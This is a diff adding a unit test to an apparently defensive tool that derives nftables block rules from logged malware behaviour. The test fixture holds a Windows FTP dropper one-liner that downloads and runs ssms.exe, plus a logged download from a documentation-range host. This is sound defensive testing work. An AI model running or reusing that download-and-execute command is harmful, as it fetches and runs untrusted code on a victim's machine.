@@ -148,6 +148,32 @@ static void candidates_are_complete_and_distinct(void **state)
 	trace_log_free(log);
 }
 
+/* Attackers behind address translation type an address that is of no use; the port still is. */
+static void a_useless_address_leaves_the_port(void **state)
+{
+	struct trace_log *log = trace_log_new(1u << 20);
+	(void)state;
+	tell(log, "{\"event\":\"shell.command\",\"command\":\"echo open 0.0.0.0 8884 > o&echo user "
+		  "1 1 >> o "
+		  "&echo get ssms.exe >> o &echo quit >> o &ftp -n -s:o &del /F /Q o &ssms.exe\"}");
+	tell(log, "{\"event\":\"net.download\",\"url\":\"ftp://198.51.100.9:1080/ssms.exe\","
+		  "\"path\":\"ssms.exe\"}");
+	json_t *behaviours = behaviours_of(knowledge, log);
+	struct remedy_candidates candidates;
+	struct error error;
+	assert_int_equal(remedy_derive(knowledge, behaviours, &candidates, &error), 0);
+	assert_non_null(
+		strstr(rule_of(candidate_of(&candidates, "block-download-port"), "nftables"),
+		       "tcp dport 8884"));
+	const struct remedy_candidate *server = candidate_of(&candidates, "block-download-server");
+	assert_non_null(strstr(rule_of(server, "nftables"), "ip daddr 198.51.100.9"));
+	for (size_t i = 0; i < candidates.count; i++)
+		assert_null(strstr(candidates.items[i].title, "0.0.0.0"));
+	remedy_candidates_fini(&candidates);
+	json_decref(behaviours);
+	trace_log_free(log);
+}
+
 /* What a sample says must never end a text or a line of a rule. */
 static void hostile_texts_stay_inside(void **state)
 {
@@ -248,6 +274,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(behaviours_with_parameters),
 		cmocka_unit_test(candidates_are_complete_and_distinct),
+		cmocka_unit_test(a_useless_address_leaves_the_port),
 		cmocka_unit_test(hostile_texts_stay_inside),
 		cmocka_unit_test(nftables_rules_load),
 	};
